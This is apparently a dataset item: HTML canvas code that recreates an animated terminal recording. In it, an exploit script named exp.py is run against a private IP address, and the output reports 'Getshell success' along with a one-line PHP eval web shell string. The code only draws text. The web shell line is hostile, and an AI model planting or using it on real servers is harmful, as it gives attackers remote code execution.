
Animation of 777 by 292 pixels, one loop 5060 ms. Source, as an HTML page with a canvas:

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #012456; }
  canvas { display: block; }
</style>
</head>
<body>
<canvas width="777" height="292"></canvas>
<script>
const ctx = document.querySelector('canvas').getContext('2d');
const LOOP = 5060, CELL = 10, LINE = 20;
const INK = '#eeedf0', COMMAND = '#f9f1a5', CARET = '#fedba9', PAPER = '#012456';
const SERIF = '20px "Liberation Serif", serif';
const NARROW = '20px "Noto Sans Mono CJK SC", "Liberation Mono", monospace';
const PROMPT = 'PS C:\\Users\\Lord mipo\\Desktop> ';
const STARS = '*'.repeat(15);

// Caret by time: [start, column, row]; no column means hidden.
const carets = [
  [0, 31, 0], [400], [960, 31, 0], [1460], [2040, 70, 0], [2540],
  [2660, 0, 1], [2800, 0, 3], [3080, 31, 4], [4170], [4440, 31, 4], [4960]
];
// Mouse pointer by time: [start, x, y]
const pointers = [
  [0, 620, 248], [4170, 620, 247], [4320, 625, 255],
  [4440, 636, 268], [4560, 648, 283], [4690]
];
const arrow = new Path2D('M.5 .5V16.5L4.5 12.8L7.2 18.5L9.5 17.5L7 11.8H11.5Z');

const at = (steps, t) => steps.findLast(step => step[0] <= t);

// Centres each character in its cell; letters too wide in serif use the narrow face, thinned.
function write(text, column, row, { color = INK, paper = PAPER, drop = 0 } = {}) {
  const y = row * LINE + 18 + drop;
  ctx.textAlign = 'center';
  ctx.fillStyle = color;
  ctx.strokeStyle = paper;
  ctx.lineWidth = 0.45;
  [...text].forEach((char, i) => {
    const x = (column + i + 0.5) * CELL;
    ctx.font = SERIF;
    const wide = ctx.measureText(char).width > CELL * 1.15;
    if (wide) ctx.font = NARROW;
    ctx.fillText(char, x, y);
    if (wide) ctx.strokeText(char, x, y);
  });
}

function drawOutput(t) {
  write(STARS, 0, 1, { drop: 3 });
  write('Start expolit 192.168.81.132:8080 500 times', 15, 1);
  write(STARS, 58, 1, { drop: 3 });
  write('get the offset :127553', 0, 2);
  if (t < 3080) {
    const progress = `Trying ${t < 2930 ? 9 : 22}/500 times`;
    write(progress, 0, 3);
    write('…', progress.length + 0.5, 3, { drop: -6 });
  } else {
    write('Getshell success! at /tmp/eval "<?=eval($_REQUEST[1])?>"', 0, 3);
    write(PROMPT, 0, 4);
  }
}

function drawCaret(t) {
  const [, column, row] = at(carets, t);
  if (column === undefined) return;
  const x = column * CELL, y = row * LINE + 16;
  ctx.fillStyle = CARET;
  ctx.fillRect(x, y, CELL, 5);
  if (row === 3) {
    ctx.save();
    ctx.beginPath();
    ctx.rect(x, y, CELL, 5);
    ctx.clip();
    write('T', column, row, { color: PAPER, paper: CARET });
    ctx.restore();
  }
}

function drawPointer(t) {
  const [, x, y] = at(pointers, t);
  if (x === undefined) return;
  ctx.save();
  ctx.translate(x, y);
  ctx.fillStyle = '#fff';
  ctx.strokeStyle = '#000';
  ctx.lineWidth = 1;
  ctx.fill(arrow);
  ctx.stroke(arrow);
  ctx.restore();
}

function draw(t) {
  ctx.fillStyle = PAPER;
  ctx.fillRect(0, 0, 777, 292);
  ctx.fillStyle = '#8b929c';
  ctx.fillRect(0, 0, 777, 1);

  write(PROMPT, 0, 0);
  if (t >= 1460) {
    write('python', 31, 0, { color: COMMAND });
    write('.\\exp.py 192.168.81.132 8080 500', 38, 0);
  }
  if (t >= 2800) drawOutput(t);
  drawCaret(t);
  drawPointer(t);
}

function tick() {
  draw(performance.now() % LOOP);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
